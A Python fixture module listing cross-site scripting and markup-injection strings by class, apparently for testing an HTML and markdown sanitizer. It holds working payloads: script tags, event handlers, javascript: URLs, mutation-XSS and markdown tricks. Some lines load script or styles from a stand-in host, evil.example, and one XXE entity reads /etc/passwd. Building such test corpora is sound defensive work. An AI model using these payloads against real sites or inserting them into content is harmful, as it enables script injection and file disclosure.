"""Hostile text of our own, by class: what each tries is said by its name, and every one is written for this project."""

from __future__ import annotations

import itertools

JS = "run(1)"
_SCHEMES = (
    f"javascript:{JS}",
    f"JaVaScRiPt:{JS}",
    f"java\tscript:{JS}",
    f"java\nscript:{JS}",
    f" \x01javascript:{JS}",
    f"javascript&colon;{JS}",
    f"&#106;avascript:{JS}",
    f"&#x6A;avascript&#58;{JS}",
    f"vbscript:{JS}",
    f"data:text/html,<script>{JS}</script>",
    "//evil.example",
    "\\\\evil.example",
    "/\\evil.example",
    "ssh://evil.example",
    "url:javascript:x",
    f"jav\u200bascript:{JS}",
    f"\u202ejavascript:{JS}",
)
_HANDLERS = ("onclick", "onerror", "onload", "onfocus", "ONTOGGLE", "onpointerrawupdate")
_ELEMENTS = ("img", "svg", "body", "details open", "input autofocus", "video", "math", "iframe", "object", "embed", "x")
_RAW_TEXT = ("textarea", "title", "xmp", "iframe", "noscript", "noembed", "noframes", "plaintext", "style", "script")

CLASSES: dict[str, list[str]] = {
    "script elements": [
        f"<script>{JS}</script>",
        f"<SCRIPT/x>{JS}</SCRIPT >",
        f"<script\n>{JS}</script\t>",
        "<script src=//evil.example/x.js></script>",
        f"<script>{JS}",
        f"</script><script>{JS}",
        f"<svg><script>{JS}</script></svg>",
        f"<script>/*</script>*/{JS}</script>",
    ],
    "event handlers": [
        f"<{element} {handler}={JS} src=x>" for element, handler in itertools.product(_ELEMENTS, _HANDLERS)
    ]
    + [f"<img/src=x/onerror={JS}>", f"<img src=`x`onerror={JS}>", f'<a title="x"onclick={JS}>y</a>'],
    "addresses": [f'<a href="{scheme}">x</a>' for scheme in _SCHEMES]
    + [f"<a href='{scheme}'>x</a>" for scheme in _SCHEMES]
    + [f"<{tag} {name}={_SCHEMES[0]}>" for tag, name in (("form", "action"), ("q", "cite"), ("button", "formaction"))],
    "tags made of what is left": [
        f"<<b>script>{JS}<</b>/script>",
        f"<scr<b>ipt>{JS}</scr</b>ipt>",
        f"<scr\x00ipt>{JS}</scr\x00ipt>",
        f"<scr\u200bipt>{JS}</scr\u200bipt>",
        f"<<<<i>i>i>img src=x onerror={JS}>",
        "<" * 30 + "<b>" + "b>" * 30,
        f"<\ufeffimg src=x onerror={JS}>",
    ],
    "tags that are text first": [f"<{name}><img src=x onerror={JS}></{name}>" for name in _RAW_TEXT]
    + [f"<{name}><{name}><img src=x onerror={JS}>" for name in _RAW_TEXT],
    "read in another way the second time": [
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={JS}&gt;">',
        f'<svg></p><style><a id="</style><img src=1 onerror={JS}>">',
        f'<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src onerror={JS}>">',
        f"<noscript><p title='</noscript><img src=x onerror={JS}>'>",
        f"<table><a href='javascript:{JS}'><td>x</a></table>",
        f"<select><iframe><style></select><img src=x onerror={JS}></style>",
        f"<![CDATA[><img src=x onerror={JS}>]]>",
        f"<svg><![CDATA[</svg><img src=x onerror={JS}>]]>",
    ],
    "comments and declarations": [
        f"<!-- --!><img src=x onerror={JS}> -->",
        f"<!--><img src=x onerror={JS}>-->",
        f"<!--->{JS}<img src=x onerror={JS}>",
        f"<?xml version='1.0'?><img src=x onerror={JS}>",
        "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
        f"<!-- never closed <img src=x onerror={JS}>",
    ],
    "never closed": [
        f"<img src=x onerror={JS} ",
        f"<img src='x onerror={JS}",
        f"text > <svg/onload={JS}",
        f'<a href="x>y" <img src=x onerror={JS}',
        "<a",
        "</",
        "<!",
    ],
    "styles": [
        f"<p style='background:url(javascript:{JS})'>x</p>",
        "<style>@import '//evil.example/x.css';</style>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        f"<div style=width:expression({JS})>x</div>",
    ],
    "names that shadow": [
        "<form id=document><input name=cookie></form>",
        "<a id=location href='x'></a>",
        "<img name=body>",
        "<base href=//evil.example/>",
        f"<meta http-equiv=refresh content='0;url=javascript:{JS}'>",
    ],
    "markdown links": [f"[x]({scheme})" for scheme in _SCHEMES]
    + [f"[x](<{scheme}>)" for scheme in _SCHEMES]
    + [f"![x]({scheme} 'title')" for scheme in _SCHEMES]
    + [f"[x]\n\n[x]: {scheme}" for scheme in _SCHEMES]
    + [f"[x]\n\n[x]:\n{scheme}" for scheme in _SCHEMES]
    + [f"> [x]\n>\n> [x]:\n> {scheme}" for scheme in _SCHEMES]
    + [f"<{scheme}>" for scheme in _SCHEMES]
    + [f"[x](\n{scheme}\n)" for scheme in _SCHEMES]
    + [
        f"[ [x](https://a](javascript:{JS})",
        f"[x](< javascript:{JS}\\<>)",
        f"[x]:https://a.example]:javascript:{JS}",
        f'[x](https://a.example "title" onclick={JS})',
        f'[x](https://a.example"onclick={JS})',
        f"[a`](javascript:{JS})`",
        f"<https://a.example/x y=onclick={JS}>",
        f'<https://a.example/"onclick={JS}>',
    ],
    "markdown code that is none": [
        f"```\n<img src=x onerror={JS}>",
        f"  ```\n```\n<img src=x onerror={JS}>\n```",
        f"~~~\n```\n~~~\n<img src=x onerror={JS}>\n```",
        f"```\n   ```\n<img src=x onerror={JS}>\n```",
        f"- ```\n  x\n```\n<img src=x onerror={JS}>\n```",
        f"> ```\n```\n<img src=x onerror={JS}>\n```",
        f"``` a b\n<img src=x onerror={JS}>\n```\n<img src=x onerror={JS}>\n```",
        f"```x`\n<img src=x onerror={JS}>\n```",
        f"`<img src=x onerror={JS}>`",
        f"    <img src=x onerror={JS}>",
        f"\\<img src=x onerror={JS}> \\\\<img src=x onerror={JS}>",
        f"text\x0b```\x0b<img src=x onerror={JS}>\x0b```",
    ],
    "bidi and invisible": [
        f"\u202e<img src=x onerror={JS}>\u202c",
        f"<\u2066img src=x onerror={JS}>",
        "&#x202e;<b>x</b>&#8203;<i>&#xfeff;</i>",
    ],
}
VECTORS = [vector for vectors in CLASSES.values() for vector in vectors]
